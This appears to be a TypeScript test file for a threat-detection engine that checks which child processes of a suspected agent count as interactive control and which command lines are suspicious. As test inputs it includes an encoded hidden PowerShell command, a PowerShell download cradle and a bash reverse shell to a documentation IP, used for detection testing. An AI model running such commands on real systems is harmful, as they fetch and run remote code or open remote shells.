// S4 on its own: which children are interactive control (shells, interpreters, recon tools, not
// Windows plumbing), which command lines are suspicious, and shells credited to an agent that
// was recognised only after it spawned them.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { newAgentFor } from '../../../src/engine/chain.ts';
import { hostFor } from '../../../src/engine/context.ts';
import { startProc } from '../../../src/engine/lineage.ts';
import { creditChildren, isControlChild, suspiciousCommand } from '../../../src/engine/steps/control.ts';
import { at, HOST, proc } from '../../support/events.ts';
import { feed, stepContext } from './harness.ts';

const AGENT = 'C:\\Users\\alice\\Downloads\\agent.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

describe('control step', () => {
  const rules = stepContext().rules.control;

  test('shells, interpreters and recon commands are control children; conhost and services→svchost are not', () => {
    assert.ok(isControlChild(rules, AGENT, CMD));
    assert.ok(isControlChild(rules, '/opt/x/agent', '/usr/bin/python3'));
    assert.ok(isControlChild(rules, AGENT, 'C:\\Windows\\System32\\whoami.exe'));
    assert.ok(!isControlChild(rules, AGENT, 'C:\\Windows\\System32\\conhost.exe'));
    assert.ok(
      !isControlChild(rules, 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\System32\\svchost.exe'),
    );
    assert.ok(!isControlChild(rules, AGENT, 'C:\\Program Files\\Notepad++\\notepad++.exe'));
  });

  test('encoded PowerShell, download cradles and reverse shells are suspicious; a plain dir is not', () => {
    assert.ok(suspiciousCommand(rules, 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'));
    assert.ok(suspiciousCommand(rules, "iex (New-Object Net.WebClient).DownloadString('http://x')"));
    assert.ok(suspiciousCommand(rules, 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'));
    assert.equal(suspiciousCommand(rules, 'cmd.exe /c dir'), undefined);
  });

  test('a config may replace the shells and add acceptable pairs', () => {
    const custom = stepContext({
      ShellSpawnRegex: {
        shells: '(^|\\\\)(cmd|foo)\\.exe$',
        acceptable: [{ parent: 'agent\\.exe$', child: 'cmd\\.exe$' }],
      },
    }).rules.control;
    assert.ok(!isControlChild(custom, AGENT, CMD), 'the acceptable pair is not control');
    assert.ok(isControlChild(custom, AGENT, 'C:\\x\\foo.exe'));
    assert.ok(!isControlChild(custom, AGENT, 'C:\\Windows\\System32\\whoami.exe'));
  });

  test('shells spawned before the agent was known are credited to it, with the suspicious flag', () => {
    const ctx = stepContext();
    feed(
      ctx,
      [
        proc({ at: at(0), guid: '{A}', image: AGENT }),
        proc({
          at: at(1),
          guid: '{c}',
          image: CMD,
          parentGuid: '{A}',
          parentImage: AGENT,
          commandLine: 'cmd /c whoami',
        }),
        proc({
          at: at(2),
          guid: '{p}',
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          parentGuid: '{c}',
          commandLine: 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
        }),
      ],
      (_, h, ev) => startProc(h, ev),
    );
    const h = hostFor(ctx, HOST, 'windows');
    const p = h.procsByGuid.get('{A}')!;
    const a = newAgentFor(ctx, h, p, at(3));
    creditChildren(ctx, a, p);
    assert.equal(a.steps.control.count, 2);
    assert.equal(a.steps.control.link, 'child of the agent process');
    assert.match(a.flags.get('suspicious_child') ?? '', /-enc/);
    assert.equal(a.steps.control.evidence[0].process?.image, CMD);
  });
});
